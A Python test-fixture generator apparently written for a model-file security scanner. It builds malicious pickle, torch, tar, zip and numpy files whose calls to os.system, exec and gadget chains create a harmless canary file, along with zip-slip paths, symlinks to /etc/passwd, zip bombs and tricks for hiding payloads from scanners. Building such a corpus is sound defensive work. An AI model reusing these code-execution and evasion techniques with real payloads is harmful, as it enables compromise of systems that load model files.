"""The hostile corpus: every file breaks a format or hides a program. `hostile(canary)` makes them; nothing here runs anything."""

from __future__ import annotations

import gzip
import marshal
import pickle
import struct
import tarfile
import zipfile
from collections.abc import Iterator

from .asm import (
    CODE,
    MAGIC,
    MALFORMED,
    UNKNOWN,
    Case,
    by,
    call,
    g,
    i,
    legacy,
    legacy_storage,
    mapping,
    npy,
    prog,
    python,
    s,
    sft,
    sg,
    shell,
    storage,
    tarred,
    tensor,
    torch_zip,
    tup,
    zipped,
)
from .attacks import attacks


def hostile(canary: str) -> list[Case]:
    """Every hostile file, with payloads that would create `canary`."""
    makers = (
        _calls,
        _gadgets,
        _opcodes,
        _hidden,
        _resources,
        _broken_pickles,
        _torch_zips,
        _zips,
        _streams,
        _tars,
        _packed,
        _numpy,
        _scripts,
        _tensors,
        _safetensors,
        _gguf,
        _polyglots,
    )
    return [case for maker in (*makers, attacks) for case in maker(canary)]


def _calls(canary: str) -> Iterator[Case]:
    """The plain case: a global is called."""
    sh, py = shell(canary), python(canary)
    functions = [
        ("os", "system", (sh,)), ("posix", "system", (sh,)), ("nt", "system", (sh,)), ("os", "popen", (sh,)), ("builtins", "exec", (py,)),
        ("__builtin__", "eval", (py,)), ("builtins", "eval", (py,)), ("subprocess", "getoutput", (sh,)), ("subprocess", "call", (sh, i(-1), b"NNNN\x88\x88")),
        ("commands", "getoutput", (sh,)), ("pty", "spawn", (b"](" + s("touch") + s(canary) + b"e",)), ("shutil", "copyfile", (s("/dev/null"), s(canary))),
        ("builtins", "open", (s(canary), s("w"))), ("io", "open", (s(canary), s("w"))), ("pathlib", "Path.touch", (call(g("pathlib", "PosixPath"), s(canary)),)),
        ("os", "mkdir", (s(canary),)), ("os", "open", (s(canary), i(65))), ("importlib", "import_module", (s("antigravity"),)), ("builtins", "__import__", (s("this"),)),
        ("socket", "create_connection", (tup(s("127.0.0.1"), i(9)),)), ("webbrowser", "open", (s("file:///dev/null"),)), ("sys", "exit", (i(0),)),
    ]  # fmt: skip
    for module, name, args in functions:
        if module == "subprocess" and name == "call":
            args = (b"](" + s("touch") + s(canary) + b"e",)
        yield Case(f"call-{module}.{name}.pkl", "call of a dangerous global", prog(call(g(module, name), *args)), CODE)
    main = prog(mapping(w=tensor(), x=call(g("os", "system"), sh)))
    yield Case("torch-with-code.bin", "tensors and a call", torch_zip(main), CODE)
    yield Case("torch-with-code-deflated.bin", "tensors and a call", torch_zip(main, method=zipfile.ZIP_DEFLATED), CODE)


GADGETS = {
    "standard library gadget": """timeit.timeit cProfile.run profile.run pdb.run bdb.Bdb.run trace.Trace.run doctest.debug_script code.interact
        runpy.run_path runpy._run_code idlelib.pyshell.ModifiedInterpreter.runcode lib2to3.pgen2.grammar.Grammar.loadp ctypes.CDLL ensurepip._run_pip
        multiprocessing.util.spawnv_passfds asyncio.unix_events._UnixSubprocessTransport._start _osx_support._read_output _aix_support._read_cmd_output
        _pyrepl.pager.pipe_pager imaplib.IMAP4_stream test.support.script_helper.assert_python_ok distutils.file_util.write_file logging.config.fileConfig
        uuid._get_command_stdout zipimport.zipimporter http.client.HTTPSConnection urllib.request.urlopen ssl.get_server_certificate telnetlib.Telnet
        venv.create pydoc.pipepager site.addsitedir sqlite3.connect tempfile.mktemp xml.sax.make_parser linecache.getline""",
    "library gadget": """numpy.testing._private.utils.runstring numpy.f2py.crackfortran.getlincoef torch.utils.bottleneck.__main__.run_cprofile
        torch.utils.collect_env.run torch.utils._config_module.ConfigModule.load_config torch.hub.load torch.jit.unsupported_tensor_ops.execWrapper
        torch.fx.experimental.symbolic_shapes.ShapeEnv.evaluate_guards_expression torch._dynamo.guards.GuardBuilder.get torch.utils.data.datapipes.utils.decoder.basichandlers
        transformers.dynamic_module_utils.get_class_from_dynamic_module pandas.eval pandas.core.computation.eval.eval
        pip._internal.cli.main.main setuptools.sandbox.run_setup yaml.unsafe_load jinja2.Template keras.models.load_model networkx.drawing.nx_agraph.view_pygraphviz""",
    "unpickling inside a pickle": "pickle.loads _pickle.loads cloudpickle.loads dill.loads joblib.load torch.load torch.serialization.load numpy.load pandas.read_pickle shelve.open marshal.loads",
    "indirection": "builtins.getattr functools.partial functools.reduce operator.methodcaller operator.attrgetter builtins.map builtins.filter builtins.apply itertools.starmap types.FunctionType types.CodeType copyreg.add_extension",
}  # fmt: skip


def _gadgets(canary: str) -> Iterator[Case]:
    inner = prog(call(g("os", "system"), shell(canary)))
    for kind, names in GADGETS.items():
        for qualname in names.split():
            parts = qualname.split(".")
            split = next((at for at, part in enumerate(parts) if part[:1].isupper()), len(parts) - 1)
            module, name = ".".join(parts[:split]), ".".join(parts[split:])
            argument = by(inner) if kind.startswith("unpickling") else python(canary)
            function = sg(module, name) if "." in name else g(module, name)
            yield Case(f"gadget-{qualname}.bin", kind, prog(call(function, argument), proto=4), CODE)
    getter = call(g("builtins", "getattr"), g("os", "path"), s("os"))
    yield Case("getattr-chain.pkl", "indirection", prog(call(call(g("builtins", "getattr"), getter, s("system")), shell(canary))), CODE)
    mapped = call(g("builtins", "map"), g("os", "system"), b"](" + shell(canary) + b"e")
    yield Case("list-of-map.pkl", "indirection", prog(call(g("builtins", "list"), mapped)), CODE)
    yield Case("partial-called.pkl", "indirection", prog(call(call(g("functools", "partial"), g("os", "system"), shell(canary)))), CODE)
    yield Case(
        "nested-three-deep.pkl",
        "unpickling inside a pickle",
        prog(call(g("pickle", "loads"), by(prog(call(g("pickle", "loads"), by(inner)))))),
        CODE,
    )


def _opcodes(canary: str) -> Iterator[Case]:
    """Every opcode that can call."""
    sh, py = shell(canary), python(canary)
    system = g("os", "system")
    yield Case("stack-global.pkl", "STACK_GLOBAL", prog(call(sg("os", "system"), sh), proto=4), CODE)
    yield Case(
        "stack-global-memo.pkl",
        "STACK_GLOBAL",
        prog(s("os"), b"\x940", s("system"), b"\x940", b"h\x00h\x01\x93", tup(sh), b"R", proto=4),
        CODE,
    )
    yield Case(
        "stack-global-dotted.pkl",
        "STACK_GLOBAL",
        prog(call(sg("torch._utils", "_rebuild_tensor_v2.__globals__.__getitem__"), s("sys")), proto=4),
        CODE,
    )
    yield Case(
        "stack-global-computed.pkl",
        "STACK_GLOBAL",
        prog(call(g("builtins", "str"), s("os")), s("system"), b"\x93", tup(sh), b"R", proto=4),
        CODE,
    )
    yield Case("inst.pkl", "INST", prog(b"(" + sh + b"ios\nsystem\n"), CODE)
    yield Case("obj.pkl", "OBJ", prog(b"(" + system + sh + b"o"), CODE)
    yield Case("newobj.pkl", "NEWOBJ", prog(g("subprocess", "Popen") + tup(b"](" + s("touch") + s(canary) + b"e") + b"\x81"), CODE)
    yield Case(
        "newobj-ex.pkl", "NEWOBJ_EX", prog(g("subprocess", "Popen") + tup(s("true")) + mapping(shell=b"\x88") + b"\x92", proto=4), CODE
    )
    yield Case("build-on-class.pkl", "BUILD", prog(g("collections", "OrderedDict") + mapping(__setitem__=system) + b"b"), CODE)
    yield Case(
        "build-slots.pkl",
        "BUILD",
        prog(call(g("collections", "OrderedDict")) + tup(b"N", mapping(__class__=g("os", "system"))) + b"b"),
        CODE,
    )
    yield Case("build-setstate.pkl", "BUILD", prog(g("evil", "Thing") + b")\x81" + mapping(a=i(1)) + b"b"), CODE)
    yield Case("setitem-on-module.pkl", "SETITEM on a global", prog(g("os", "environ") + s("X") + s("1") + b"s"), CODE)
    yield Case("append-on-global.pkl", "SETITEM on a global", prog(g("sys", "path") + s("/tmp") + b"a"), CODE)
    for size, opcode in ((1, b"\x82"), (2, b"\x83"), (4, b"\x84")):
        yield Case(f"extension-{size}.pkl", "copyreg extension", prog(opcode + (7).to_bytes(size, "little") + tup(sh) + b"R"), CODE)
    yield Case(
        "reconstructor.pkl",
        "copyreg._reconstructor",
        prog(call(g("copyreg", "_reconstructor"), g("evil", "Thing"), g("builtins", "object"), b"N")),
        CODE,
    )
    yield Case("newobj-function.pkl", "copyreg._reconstructor", prog(call(g("copyreg", "__newobj__"), g("evil", "Thing"))), CODE)
    yield Case("defaultdict-factory.pkl", "callable given to a trusted class", prog(call(g("collections", "defaultdict"), system)), CODE)
    yield Case(
        "rebuild-from-type.pkl",
        "callable given to a trusted function",
        prog(call(g("torch._tensor", "_rebuild_from_type_v2"), g("builtins", "exec"), g("torch", "Tensor"), tup(py), b"N")),
        CODE,
    )
    yield Case("codecs-rot13.pkl", "trusted function, odd arguments", prog(call(g("_codecs", "encode"), s("x"), s("rot13"))), CODE)
    yield Case("codecs-zlib.pkl", "trusted function, odd arguments", prog(call(g("_codecs", "encode"), s("x"), s("zlib"))), CODE)
    yield Case("bytes-of-a-number.pkl", "trusted function, odd arguments", prog(call(g("builtins", "bytes"), i(2**60))), CODE)
    yield Case("named-only.pkl", "import without a call", prog(g("antigravity", "fly")), CODE)
    yield Case("protocol-0.pkl", "text protocol", f"cos\nsystem\n(S\"touch '{canary}'\"\ntR.".encode(), CODE)
    yield Case("protocol-0-unicode.pkl", "text protocol", f"cos\nsystem\n(Vtouch '{canary}'\ntR.".encode(), CODE)
    yield Case("protocol-1.bin", "text protocol", b"(" + g("os", "system") + shell(canary) + b"o.", CODE)
    yield Case("protocol-5.pkl", "protocol 5", pickle.dumps({"a": 1}, 5)[:-1] + b"0" + call(sg("os", "system"), sh) + b".", CODE)
    yield Case("python2-names.pkl", "Python 2 names", prog(call(g("__builtin__", "execfile"), s(canary))), CODE)
    yield Case(
        "inert-class-called.pkl", "known class called", prog(call(g("transformers.training_args", "TrainingArguments"), s(canary))), CODE
    )


def _hidden(canary: str) -> Iterator[Case]:
    """A call where scanners stop looking."""
    sh = shell(canary)
    evil = call(g("os", "system"), sh)
    yield Case("dropped.pkl", "result dropped", prog(evil + b"0" + mapping(w=i(1))), CODE)
    yield Case("after-a-thousand.pkl", "far into the program", prog(b"](" + b"K\x01" * 200_000 + b"e0" + evil), CODE)
    yield Case("second-pickle.pkl", "second pickle", prog(mapping(a=i(1))) + prog(evil), CODE)
    yield Case("tenth-pickle.pkl", "second pickle", prog(b"N") * 9 + prog(evil), CODE)
    yield Case("no-stop.pkl", "broken after the call", prog(evil)[:-1], CODE)
    yield Case("bad-opcode-after.pkl", "broken after the call", prog(evil)[:-1] + b"\xff.", CODE)
    yield Case("underflow-after.pkl", "broken after the call", prog(evil)[:-1] + b"0000000.", CODE)
    yield Case("bad-memo-after.pkl", "broken after the call", prog(evil)[:-1] + b"h\x77.", CODE)
    yield Case("bad-proto-middle.pkl", "protocol mark in the middle", b"\x80\x02" + evil + b"\x80\x63.", CODE)
    yield Case("no-proto.bin", "no protocol mark", evil + b".", CODE)
    yield Case("frame-lies.pkl", "lying frame", b"\x80\x04\x95" + struct.pack("<Q", 2) + call(sg("os", "system"), sh) + b".", CODE)
    yield Case("renamed-notes.txt", "renamed", f"cos\nsystem\n(S\"touch '{canary}'\"\ntR.".encode(), CODE)
    for name in ("model.safetensors", "weights.npy", "config.dat", "model.gguf", "adapter_model.ckpt"):
        yield Case(f"renamed-{name}", "renamed", prog(evil), CODE)
    yield Case(
        "deep-in-structure.bin",
        "deep in a state dict",
        torch_zip(prog(mapping(a=mapping(b=mapping(c=b"](" + tensor() + evil + b"e"))))),
        CODE,
    )
    yield Case("in-a-key.bin", "as a key", prog(b"}" + evil + i(1) + b"s"), CODE)
    yield Case(
        "in-hooks.bin",
        "as backward hooks",
        torch_zip(prog(mapping(w=call(g("torch._utils", "_rebuild_tensor_v2"), storage(), i(0), tup(i(2)), tup(i(1)), b"\x89", evil)))),
        CODE,
    )
    yield Case(
        "in-persistent-id.bin",
        "in a persistent id",
        torch_zip(prog(mapping(w=tensor(store=tup(s("storage"), g("torch", "FloatStorage"), s("0"), evil, i(4)) + b"Q")))),
        CODE,
    )
    yield Case("evil-storage-type.bin", "in a persistent id", torch_zip(prog(mapping(w=tensor(store=storage(module="evil"))))), CODE)


def _resources(canary: str) -> Iterator[Case]:
    """Files that would eat memory or time."""
    laughs = b"](K\x01K\x01eq\x000" + b"".join(
        b"](" + b"h" + bytes([n]) + b"h" + bytes([n]) + b"eq" + bytes([n + 1]) + b"0" for n in range(60)
    )
    yield Case(
        "billion-laughs-tensors.bin",
        "billion laughs",
        torch_zip(
            prog(
                b"]("
                + tensor()
                + b"eq\x000"
                + b"".join(b"](h" + bytes([n]) + b"h" + bytes([n]) + b"eq" + bytes([n + 1]) + b"0" for n in range(60))
                + b"h\x3c"
            )
        ),
        MALFORMED,
    )
    keys = b"K\x01q\x000" + b"".join(b"h" + bytes([n]) + b"h" + bytes([n]) + b"\x86q" + bytes([n + 1]) + b"0" for n in range(60))
    yield Case("billion-laughs-cut.bin", "billion laughs", prog(laughs)[:-3], MALFORMED)
    yield Case("key-laughs-cut.bin", "billion laughs", prog(keys + b"}h\x3cK\x01s")[:-1], MALFORMED)
    yield Case("deep-lists.bin", "nesting", prog(b"]" * 100_000 + b"a" * 99_999), MALFORMED)
    yield Case("deep-tuples.bin", "nesting", prog(b"N" + b"\x85" * 100_000), MALFORMED)
    yield Case("deep-marks.bin", "nesting", prog(b"(" * 500_000), MALFORMED)
    yield Case("huge-integer.bin", "huge number", prog(b"\x8b" + struct.pack("<i", 1 << 20) + b"\x7f" * (1 << 20)), MALFORMED)
    yield Case("huge-decimal.bin", "huge number", prog(b"L" + b"9" * 100_000 + b"L\n"), MALFORMED)
    yield Case("huge-length.bin", "length without bytes", prog(b"\x8e" + struct.pack("<Q", 1 << 62), proto=4), MALFORMED)
    yield Case("huge-text.bin", "length without bytes", prog(b"X" + struct.pack("<I", 0xFFFFFFFF)), MALFORMED)
    yield Case("negative-length.bin", "length without bytes", prog(b"T" + struct.pack("<i", -5)), UNKNOWN)
    yield Case("long-global-name.bin", "huge name", prog(b"c" + b"a" * 100_000 + b"\nb\n"), MALFORMED)
    million = b"](" + b"K\x01" * 300_000 + b"eq\x000"
    yield Case(
        "set-of-list-again-and-again.bin",
        "quadratic",
        prog(million + b"cbuiltins\nset\nq\x010" + b"h\x01h\x00\x85R0" * 100_000 + b"N"),
        MALFORMED,
    )
    yield Case(
        "encode-again-and-again.bin",
        "quadratic",
        prog(s("x" * 200_000) + b"q\x000" + b"c_codecs\nencode\nq\x010" + b"h\x01h\x00\x85R0" * 50_000 + b"N"),
        MALFORMED,
    )
    yield Case("opcode-flood-cut.bin", "quadratic", prog(b"N0" * 1_000_000)[:-1], MALFORMED)


def _broken_pickles(canary: str) -> Iterator[Case]:
    """Programs that break the machine's rules."""
    broken = {
        "underflow": b"R", "mark-missing": b"K\x01u", "memo-missing": b"h\x05", "odd-items": b"}(K\x01u", "reduce-number": b"K\x01)R" * 2 + b"0R",
        "setitem-on-number": b"K\x01K\x02K\x03s", "append-to-tuple": b")K\x01a", "build-number": b"K\x01}b", "bad-utf8": b"X\x02\0\0\0\xff\xfe",
        "bad-int": b"Iabc\n", "bad-float": b"Fabc\n", "bad-string": b"Sabc\n", "buffers": b"\x97", "unknown-opcode": b"\xfe", "persid": b"Pabc\n",
        "binpersid": b"K\x01Q", "bad-escape": b"S'\\xzz'\n", "protocol-9": b"\x80\x09N", "put-negative": b"Np-1\n", "empty-memoize": b"\x94",
    }  # fmt: skip
    for name, body in broken.items():
        yield Case(
            f"broken-{name}.bin",
            f"breaks the machine: {'type' if 'to' in name or 'on' in name else 'form'}",
            prog(mapping(a=s("abcdefghijkl")) + b"0" + body),
            MALFORMED if name != "reduce-number" else CODE,
        )
    good = pickle.dumps({"a": list(range(100)), "b": "text" * 50}, 4)
    for cut in (20, 100, len(good) - 1):
        yield Case(f"cut-at-{cut}.pkl", "truncated pickle", good[:cut], MALFORMED)


def _torch_zips(canary: str) -> Iterator[Case]:
    good = prog(mapping(w=tensor()))
    evil = prog(call(g("os", "system"), shell(canary)))
    yield Case("missing-storage.pt", "storage missing", torch_zip(prog(mapping(w=tensor(store=storage("7"))))), MALFORMED)
    yield Case(
        "short-storage.pt", "storage too short", torch_zip(prog(mapping(w=tensor((9, 9), (9, 1), store=storage(count=81))))), MALFORMED
    )
    yield Case("bad-byteorder.pt", "byte order", torch_zip(good).replace(b"little", b"middle"), MALFORMED)
    yield Case("extra-pickle.pt", "second pickle in the archive", torch_zip(good, {"archive/extra/hidden.pkl": evil}), CODE)
    yield Case("extra-root.pt", "second pickle in the archive", torch_zip(good, {"other/data.pkl": evil}), CODE)
    yield Case("outside-root.pt", "second pickle in the archive", torch_zip(good, {"payload.bin": evil}), CODE)
    yield Case("no-extension.pt", "second pickle in the archive", torch_zip(good, {"archive/data/README": evil}), CODE)
    yield Case("inner-torch.pt", "archive in an archive", torch_zip(good, {"archive/inner.pt": torch_zip(evil)}), CODE)
    twice = torch_zip(good, {"archive/data.pkX": evil}).replace(b"data.pkX", b"data.pkl")
    yield Case("two-mains.pt", "duplicate member", twice, CODE)
    yield Case(
        "script.pt",
        "TorchScript",
        torch_zip(good, {"archive/constants.pkl": prog(b")"), "archive/code/__torch__.py": b"def forward(self): pass\n"}),
        CODE,
    )
    yield Case("persid-not-storage.pt", "odd persistent id", torch_zip(prog(tup(s("module"), s("0")) + b"Q")), MALFORMED)
    yield Case("persid-number.pt", "odd persistent id", torch_zip(prog(i(3) + b"Q")), MALFORMED)
    whole = torch_zip(good)
    for cut in (40, len(whole) // 2, len(whole) - 30, len(whole) - 3):
        yield Case(f"torch-zip-cut-{cut}.pt", "truncated torch zip", whole[:cut], MALFORMED)
    yield Case("evil-zip-cut.pt", "truncated torch zip", torch_zip(prog(mapping(w=call(g("os", "system"), shell(canary)))))[:-40], CODE)


def _patched(data: bytes, mark: bytes, at: int, raw: bytes, last: bool = False) -> bytes:
    where = data.rfind(mark) if last else data.find(mark)
    return data[: where + at] + raw + data[where + at + len(raw) :]


def _zips(canary: str) -> Iterator[Case]:
    """Archives two readers would read differently."""
    good = torch_zip(prog(mapping(w=tensor())))
    evil = torch_zip(prog(mapping(w=tensor(), x=call(g("os", "system"), shell(canary)))))
    local, central, end = b"PK\x03\x04", b"PK\x01\x02", b"PK\x05\x06"
    yield Case("local-name-differs.pt", "local header differs", _patched(good, local, 30, b"archive/dat_.pkl"), MALFORMED)
    yield Case("local-method-differs.pt", "local header differs", _patched(good, local, 8, b"\x08\x00"), MALFORMED)
    yield Case("local-size-differs.pt", "local header differs", _patched(good, local, 22, b"\x01\x00\x00\x00"), MALFORMED)
    yield Case("local-crc-differs.pt", "local header differs", _patched(good, local, 14, b"\x01\x02\x03\x04"), MALFORMED)
    yield Case("evil-local-differs.pt", "local header differs", _patched(evil, local, 14, b"\x01\x02\x03\x04"), CODE)
    both = _patched(_patched(good, local, 14, b"\x01\x02\x03\x04"), central, 16, b"\x01\x02\x03\x04")
    yield Case("crc-wrong.pt", "wrong checksum", both, MALFORMED)
    yield Case(
        "evil-crc-wrong.pt",
        "wrong checksum",
        _patched(_patched(evil, local, 14, b"\x01\x02\x03\x04"), central, 16, b"\x01\x02\x03\x04"),
        CODE,
    )
    yield Case("encrypted-flag.pt", "encryption flag", _patched(_patched(good, local, 6, b"\x01\x00"), central, 8, b"\x01\x00"), MALFORMED)
    yield Case("encrypted-flag-local.pt", "encryption flag", _patched(good, local, 6, b"\x01\x00"), MALFORMED)
    yield Case("evil-encrypted-flag.pt", "encryption flag", _patched(_patched(evil, local, 6, b"\x01\x00"), central, 8, b"\x01\x00"), CODE)
    yield Case("odd-method.pt", "odd compression", _patched(_patched(good, local, 8, b"\x63\x00"), central, 10, b"\x63\x00"), MALFORMED)
    yield Case("header-offset-wild.pt", "broken directory", _patched(good, central, 42, b"\xff\xff\xff\x7f"), MALFORMED)
    yield Case("directory-offset-wild.pt", "broken directory", _patched(good, end, 16, b"\x00\x00\x00\x70"), MALFORMED)
    yield Case("evil-directory-wild.pt", "broken directory", _patched(evil, end, 16, b"\x00\x00\x00\x70"), CODE)
    yield Case("evil-no-end.pt", "broken directory", evil[: evil.rfind(end)], CODE)
    yield Case("count-wrong.pt", "broken directory", _patched(good, end, 8, b"\x09\x00\x09\x00"), MALFORMED)
    yield Case("many-disks.pt", "broken directory", _patched(good, end, 4, b"\x02\x00"), MALFORMED)
    hidden = zipped({"archive/data.pkl": prog(call(g("os", "system"), shell(canary)))})
    hidden = hidden[: hidden.find(central)]
    shifted = bytearray(good)
    at = good.rfind(end)
    directory = struct.unpack_from("<L", good, at + 16)[0]
    struct.pack_into("<L", shifted, at + 16, directory + len(hidden))
    yield Case("hidden-member.pt", "member the directory hides", bytes(shifted[:directory]) + hidden + bytes(shifted[directory:]), CODE)
    where = good.find(central)
    second = struct.unpack_from("<4s6H3L5H2L", good, good.find(central, where + 4))
    overlap = bytearray(good)
    struct.pack_into("<L", overlap, good.find(central, good.find(central, where + 4) + 4) + 42, second[-1])
    yield Case("overlap.pt", "members share bytes", bytes(overlap), MALFORMED)
    for name in ("../../evil.npy", "/etc/evil.npy", "..\\evil.npy", "C:evil.npy"):
        yield Case(
            f"zip-slip-{len(name)}-{name[-5:-4]}{name[0:1].encode().hex()}.zip",
            "names outside the archive",
            zipped({name: npy("'<f4'", "(1,)", b"\0\0\0\0")}),
            MALFORMED,
        )
    link = zipfile.ZipInfo("link.npy")
    link.create_system, link.external_attr = 3, 0o120777 << 16
    import io

    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as archive:
        archive.writestr(link, "/etc/passwd")
    yield Case("zip-symlink.zip", "symbolic link", stream.getvalue(), MALFORMED)
    bomb = zipped({"archive/data.pkl": prog(b"N"), "archive/data/0": b"\0" * (8 << 20)}, zipfile.ZIP_DEFLATED)
    lied = _patched(bomb, central, 24, struct.pack("<L", 0xF0000000), last=True)
    yield Case("zip-bomb-declared.pt", "zip bomb", _patched(lied, b"archive/data/0", -8, struct.pack("<L", 0xF0000000)), MALFORMED)
    nested = zipped({"a.npy": npy("'<f4'", "(1,)", b"\0\0\0\0")})
    for depth in range(6):
        nested = zipped({f"{depth}.zip": nested}, zipfile.ZIP_DEFLATED)
    yield Case("zip-in-zip-in-zip.zip", "nested archives", nested, MALFORMED)
    yield Case(
        "evil-in-zip.zip",
        "pickle in an archive",
        zipped({"readme.txt": b"hello", "model.bin": prog(call(g("os", "system"), shell(canary)))}),
        CODE,
    )
    yield Case("evil-in-zip-in-zip.zip", "pickle in an archive", zipped({"a.zip": zipped({"m.pt": evil}, zipfile.ZIP_DEFLATED)}), CODE)


def _streams(canary: str) -> Iterator[Case]:
    """torch before 1.6."""
    evil = call(g("os", "system"), shell(canary))
    good = prog(mapping(w=tensor(store=legacy_storage())))
    yield Case("legacy-main.pt", "code in a pickle stream", legacy(prog(mapping(w=tensor(store=legacy_storage()), x=evil))), CODE)
    yield Case("legacy-sysinfo.pt", "code in a pickle stream", legacy(good, info=prog(evil)), CODE)
    yield Case("legacy-keys.pt", "code in a pickle stream", legacy(good, keys=prog(evil + b"0](" + s("0") + b"e")), CODE)
    yield Case("legacy-version.pt", "code in a pickle stream", MAGIC + prog(evil + b"0M\xe9\x03") + good, CODE)
    yield Case("legacy-wrong-version.pt", "broken pickle stream", MAGIC + prog(b"M\xea\x03") + prog(b"}") + good, MALFORMED)
    yield Case("legacy-short.pt", "truncated pickle stream", legacy(good)[:-5], MALFORMED)
    yield Case("legacy-wrong-count.pt", "broken pickle stream", legacy(good, data=struct.pack("<q4f", 400, 1, 2, 3, 4)), MALFORMED)
    yield Case("legacy-negative-count.pt", "broken pickle stream", legacy(good, data=struct.pack("<q4f", -4, 1, 2, 3, 4)), MALFORMED)
    yield Case("legacy-no-keys.pt", "broken pickle stream", legacy(good, keys=prog(b"]"), data=b""), MALFORMED)
    yield Case("legacy-key-twice.pt", "broken pickle stream", legacy(good, keys=prog(b"](" + s("0") + s("0") + b"e")), MALFORMED)
    yield Case("legacy-keys-none.pt", "broken pickle stream", legacy(good, keys=prog(b"N")), MALFORMED)
    view = tup(s("storage"), g("torch", "FloatStorage"), s("0"), s("cpu"), i(4), tup(s("v"), i(3), i(9))) + b"Q"
    yield Case("legacy-view-outside.pt", "broken pickle stream", legacy(prog(mapping(w=tensor(store=view)))), MALFORMED)
    module = tup(s("module"), g("evil", "Net"), s("net.py"), s("class Net: pass")) + b"Q"
    yield Case(
        "legacy-module-source.pt", "code in a pickle stream", legacy(prog(mapping(m=module, w=tensor(store=legacy_storage())))), CODE
    )


def _tars(canary: str) -> Iterator[Case]:
    evil = prog(call(g("os", "system"), shell(canary)))
    count = prog(b"K\x01")
    entry = prog(tup(i(1), s("cpu"), g("torch", "FloatStorage")))
    stores = count + entry + struct.pack("<q4f", 4, 1, 2, 3, 4) + prog(b"]")
    tensors = count + prog(tup(i(5), i(1), g("torch", "FloatTensor"))) + struct.pack("<iiqqqqq", 2, 0, 2, 2, 2, 1, 0)
    good = {"storages": stores, "tensors": tensors, "pickle": prog(mapping(w=b"P5\n"))}
    yield Case("tar-main.pt", "code in a torch tar", tarred(good | {"pickle": evil}), CODE)
    yield Case("tar-storages.pt", "code in a torch tar", tarred(good | {"storages": evil}), CODE)
    yield Case("tar-tensors.pt", "code in a torch tar", tarred(good | {"tensors": evil}), CODE)
    yield Case(
        "tar-storage-type.pt",
        "code in a torch tar",
        tarred(good | {"storages": count + prog(tup(i(1), s("cpu"), call(g("os", "system"), shell(canary))))}),
        CODE,
    )
    yield Case("tar-count-lies.pt", "broken torch tar", tarred(good | {"storages": prog(b"M\xff\xff") + entry}), MALFORMED)
    yield Case("tar-count-huge.pt", "broken torch tar", tarred(good | {"storages": prog(i(2**40))}), MALFORMED)
    yield Case(
        "tar-storage-short.pt", "broken torch tar", tarred(good | {"storages": count + entry + struct.pack("<q", 10**12)}), MALFORMED
    )
    yield Case(
        "tar-dims-wild.pt",
        "broken torch tar",
        tarred(good | {"tensors": count + prog(tup(i(5), i(1), g("torch", "FloatTensor"))) + struct.pack("<ii", 1 << 30, 0)}),
        MALFORMED,
    )
    yield Case("tar-unknown-tensor.pt", "broken torch tar", tarred(good | {"pickle": prog(b"P99\n")}), MALFORMED)
    yield Case("tar-cut.pt", "truncated tar", tarred(good)[:1300], MALFORMED)
    yield Case("tar-with-pickle.tar", "pickle in an archive", tarred({"model.bin": evil}), CODE)
    yield Case("model.nemo", "pickle in an archive", tarred({"model_config.yaml": b"a: 1\n", "model_weights.ckpt": torch_zip(evil)}), CODE)
    link = tarfile.TarInfo("weights.bin")
    link.type, link.linkname = tarfile.SYMTYPE, "/etc/passwd"
    yield Case("tar-symlink.tar", "symbolic link", tarred({"weights.bin": link}), MALFORMED)
    device = tarfile.TarInfo("weights.bin")
    device.type = tarfile.CHRTYPE
    yield Case("tar-device.tar", "device in an archive", tarred({"weights.bin": device}), MALFORMED)
    yield Case("tar-slip.tar", "names outside the archive", tarred({"../../evil.npy": npy("'<f4'", "(1,)", b"\0\0\0\0")}), MALFORMED)
    padded = bytearray(tarred({"x": b""}))
    head = MAGIC + prog(call(g("os", "system"), shell(canary)))
    if len(head) < 100:
        padded[: len(head)] = head
    checksum = sum(padded[:148]) + 8 * 32 + sum(padded[156:512])
    padded[148:156] = f"{checksum:06o}\0 ".encode()
    yield Case("tar-and-legacy.pt", "two formats in one", bytes(padded), CODE)


def _packed(canary: str) -> Iterator[Case]:
    evil = prog(call(g("os", "system"), shell(canary)))
    yield Case("evil.pkl.gz", "packed pickle", gzip.compress(evil, mtime=0), CODE)
    import bz2
    import lzma

    yield Case("evil.pkl.bz2", "packed pickle", bz2.compress(evil), CODE)
    yield Case("evil.pkl.xz", "packed pickle", lzma.compress(evil), CODE)
    yield Case("evil.tar.gz", "packed pickle", gzip.compress(tarred({"m.bin": evil}), mtime=0), CODE)
    yield Case("gz-cut.pt.gz", "truncated packing", gzip.compress(torch_zip(prog(b"N")), mtime=0)[:-20], MALFORMED)
    layered = evil
    for _ in range(6):
        layered = gzip.compress(layered, mtime=0)
    yield Case("gz-in-gz-in-gz.gz", "nested archives", layered, MALFORMED)
    yield Case("evil.7z", "packing upparam does not open", b"7z\xbc\xaf\x27\x1c\0\4" + bytes(100), UNKNOWN)


def _numpy(canary: str) -> Iterator[Case]:
    evil = prog(call(g("os", "system"), shell(canary)))
    yield Case("objects.npy", "npy object array", npy("'|O'", "(1,)", evil), CODE)
    yield Case(
        "objects.npz", "npy object array", zipped({"a.npy": npy("'|O'", "(1,)", evil), "b.npy": npy("'<f4'", "(1,)", bytes(4))}), CODE
    )
    yield Case("header-code.npy", "npy header", npy("__import__('os').system('true')", "(1,)", bytes(4)), MALFORMED)
    yield Case("header-deep.npy", "npy header", npy("'<f4'", "(" * 5000 + "1,", bytes(4)), MALFORMED)
    yield Case("shape-huge.npy", "array beyond the file", npy("'<f4'", "(4294967296, 4294967296)", bytes(4)), MALFORMED)
    yield Case("shape-negative.npy", "array beyond the file", npy("'<f4'", "(-4,)", bytes(4)), MALFORMED)
    yield Case("shape-true.npy", "npy header", npy("'<f4'", "(True,)", bytes(4)), MALFORMED)
    yield Case("npy-cut.npy", "truncated npy", npy("'<f4'", "(64,)", bytes(200)), MALFORMED)
    yield Case("npy-version.npy", "npy header", b"\x93NUMPY\x09\x00" + npy("'<f4'", "(1,)", bytes(4))[8:], MALFORMED)
    yield Case(
        "npz-twice.npz",
        "duplicate member",
        zipped({"a.npy": npy("'<f4'", "(1,)", bytes(4)), "b.npy": npy("'<f4'", "(1,)", bytes(4))}).replace(b"b.npy", b"a.npy"),
        MALFORMED,
    )
    wrapper = g("joblib.numpy_pickle", "NumpyArrayWrapper") + b")\x81"
    yield Case("evil.joblib", "joblib", prog(call(g("os", "system"), shell(canary)) + b"0" + wrapper), CODE)
    kind = call(g("numpy", "dtype"), s("f8"), b"\x89", b"\x88")
    state = mapping(subclass=g("numpy", "ndarray"), shape=tup(i(1 << 40)), order=s("C"), dtype=kind, allow_mmap=b"\x88")
